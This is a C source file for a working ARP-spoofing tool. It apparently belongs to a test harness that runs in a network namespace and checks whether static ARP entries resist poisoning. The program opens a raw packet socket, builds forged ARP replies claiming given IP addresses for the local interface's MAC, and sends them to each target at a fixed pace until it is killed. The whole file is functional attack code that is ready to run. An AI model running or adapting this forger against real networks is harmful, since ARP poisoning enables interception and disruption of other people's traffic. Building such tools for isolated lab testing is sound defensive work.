/* Forged ARP replies at a steady, fast pace from one interface of the attack network (scripts/netns.sh builds
 * and starts it): each target is told that an address is at this interface's MAC, again and again until the
 * process is ended. Fast enough that an entry the kernel lets an answer overwrite is the attacker's almost at
 * once; a pinned one is not. Prints "sent" and the time (ms since 1970) once the first round went out.
 *
 *   arp_forger INTERFACE INTERVAL_MS TARGET_IP TARGET_MAC CLAIMED_IP [TARGET_IP TARGET_MAC CLAIMED_IP]...
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 8

/* Padded to Ethernet's 60-byte minimum, as a network card would send it. */
struct frame {
    struct ether_header eth;
    struct ether_arp arp;
    unsigned char padding[18];
} __attribute__((packed));

static int parse_mac(const char* text, unsigned char mac[ETH_ALEN]) {
    unsigned int bytes[ETH_ALEN];
    char extra;
    if (sscanf(text, "%2x:%2x:%2x:%2x:%2x:%2x%c", &bytes[0], &bytes[1], &bytes[2], &bytes[3], &bytes[4], &bytes[5],
               &extra) != ETH_ALEN)
        return 0;
    for (int i = 0; i < ETH_ALEN; i++)
        mac[i] = (unsigned char)bytes[i];
    return 1;
}

static int usage(const char* why) {
    fprintf(stderr, "arp_forger: %s\nusage: arp_forger INTERFACE INTERVAL_MS TARGET_IP TARGET_MAC CLAIMED_IP "
                    "[TARGET_IP TARGET_MAC CLAIMED_IP]...\n", why);
    return 2;
}

int main(int argc, char** argv) {
    if (argc < 6 || (argc - 3) % 3 != 0 || (argc - 3) / 3 > MAX_TARGETS)
        return usage("one to eight targets of three words each");
    const char* interface = argv[1];
    if (strlen(interface) >= IFNAMSIZ)
        return usage("interface name too long");
    char* end;
    long interval_ms = strtol(argv[2], &end, 10);
    if (*argv[2] == '\0' || *end != '\0' || interval_ms < 1 || interval_ms > 60000)
        return usage("the interval is 1 to 60000 ms");

    int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (sock < 0) {
        perror("arp_forger: raw socket");
        return 1;
    }
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strcpy(request.ifr_name, interface);
    if (ioctl(sock, SIOCGIFHWADDR, &request) < 0) {
        perror("arp_forger: the interface's MAC");
        return 1;
    }
    unsigned char own_mac[ETH_ALEN];
    memcpy(own_mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
    struct sockaddr_ll link;
    memset(&link, 0, sizeof link);
    link.sll_family = AF_PACKET;
    link.sll_protocol = htons(ETH_P_ARP);
    link.sll_ifindex = (int)if_nametoindex(interface);
    if (link.sll_ifindex == 0 || bind(sock, (struct sockaddr*)&link, sizeof link) < 0) {
        perror("arp_forger: binding to the interface");
        return 1;
    }

    struct frame frames[MAX_TARGETS];
    int count = (argc - 3) / 3;
    memset(frames, 0, sizeof frames);
    for (int i = 0; i < count; i++) {
        char** words = argv + 3 + 3 * i;
        struct frame* f = &frames[i];
        struct in_addr target, claimed;
        if (inet_pton(AF_INET, words[0], &target) != 1 || inet_pton(AF_INET, words[2], &claimed) != 1)
            return usage("not an IPv4 address");
        if (!parse_mac(words[1], f->eth.ether_dhost))
            return usage("not a MAC written aa:bb:cc:dd:ee:ff");
        memcpy(f->eth.ether_shost, own_mac, ETH_ALEN);
        f->eth.ether_type = htons(ETHERTYPE_ARP);
        f->arp.arp_hrd = htons(ARPHRD_ETHER);
        f->arp.arp_pro = htons(ETHERTYPE_IP);
        f->arp.arp_hln = ETH_ALEN;
        f->arp.arp_pln = 4;
        f->arp.arp_op = htons(ARPOP_REPLY);
        memcpy(f->arp.arp_sha, own_mac, ETH_ALEN);
        memcpy(f->arp.arp_spa, &claimed, 4);
        memcpy(f->arp.arp_tha, f->eth.ether_dhost, ETH_ALEN);
        memcpy(f->arp.arp_tpa, &target, 4);
    }

    /* Deadlines rather than sleeps, so that the pace does not drift with the time each round takes. */
    struct timespec next;
    clock_gettime(CLOCK_MONOTONIC, &next);
    for (int round = 0;; round++) {
        for (int i = 0; i < count; i++) {
            if (send(sock, &frames[i], sizeof frames[i], 0) < 0 && errno != ENOBUFS && errno != EAGAIN &&
                errno != EINTR) {
                perror("arp_forger: send");
                return 1;
            }
        }
        if (round == 0) {
            struct timespec now;
            clock_gettime(CLOCK_REALTIME, &now);
            printf("sent %lld\n", (long long)now.tv_sec * 1000 + now.tv_nsec / 1000000);
            fflush(stdout);
        }
        next.tv_nsec += interval_ms % 1000 * 1000000L;
        next.tv_sec += interval_ms / 1000 + next.tv_nsec / 1000000000L;
        next.tv_nsec %= 1000000000L;
        while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL) == EINTR) {
        }
    }
}
